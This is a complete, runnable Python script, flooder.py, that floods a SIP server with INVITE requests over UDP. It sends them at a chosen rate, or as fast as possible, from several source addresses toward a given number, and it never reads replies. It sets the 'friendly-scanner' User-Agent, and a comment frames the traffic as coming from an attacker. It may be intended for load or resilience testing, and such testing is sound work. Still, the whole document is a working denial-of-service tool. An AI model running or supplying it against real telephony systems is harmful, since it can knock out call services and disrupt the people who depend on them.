"""Sends INVITEs to numbers that nobody may call, and never reads an answer.

    flooder.py HOST:PORT RATE SECONDS NUMBER SOURCE...

RATE is INVITEs a second from all sources together; 0 for as many as go. At the end it
says how many there were, and in how many seconds.
"""

import socket
import sys
import time

INVITE = """\
INVITE sip:{number}@{there} SIP/2.0
Via: SIP/2.0/UDP {here};branch=z9hG4bKf%d;rport
Max-Forwards: 70
From: <sip:+81335570001@{here}>;tag=f%d
To: <sip:{number}@{there}>
Call-ID: f%d@{here}
CSeq: 1 INVITE
Contact: <sip:gw@{here}>
User-Agent: friendly-scanner
Allow: INVITE, ACK, CANCEL, OPTIONS, BYE
Content-Type: application/sdp
Content-Length: 122

v=0
o=- 1622001 1622001 IN IP4 {host}
s=-
c=IN IP4 {host}
t=0 0
m=audio 10000 RTP/AVP 0 8
a=rtpmap:0 PCMU/8000
a=sendrecv
"""

SLICE = 0.002
"""Seconds between two looks at the clock: so many INVITEs go at once."""


def source(host, there, number):
    """A socket, and its INVITE with places for what must differ."""
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.bind((host, 0))
    end.connect(there)
    here = f"{host}:{end.getsockname()[1]}"
    head, body = INVITE.format(number=number, there=f"{there[0]}:{there[1]}", here=here, host=host).split("\n\n")
    body = body.replace("\n", "\r\n")
    head = head.replace("Content-Length: 122", f"Content-Length: {len(body)}").replace("\n", "\r\n")
    return end, f"{head}\r\n\r\n{body}".encode()


def main():
    to, rate, seconds, number, *hosts = sys.argv[1:]
    host, _, port = to.partition(":")
    ends = [source(it, (host, int(port)), number) for it in hosts]
    rate, start, sent = int(rate), time.monotonic(), 0
    end = start + float(seconds)
    at_once = max(int(rate * SLICE), 1) if rate else 100
    while (now := time.monotonic()) < end:
        if rate and sent >= (now - start) * rate:
            time.sleep(SLICE)
            continue
        for _ in range(at_once):
            mark = sent
            sent += 1
            wire, text = ends[mark % len(ends)]
            try:
                wire.send(text % (mark, mark, mark))
            except OSError:
                # What came back for an earlier one, or no room: neither stops an attacker.
                pass
    print(f"{sent} {time.monotonic() - start:.3f}", flush=True)


if __name__ == "__main__":
    main()
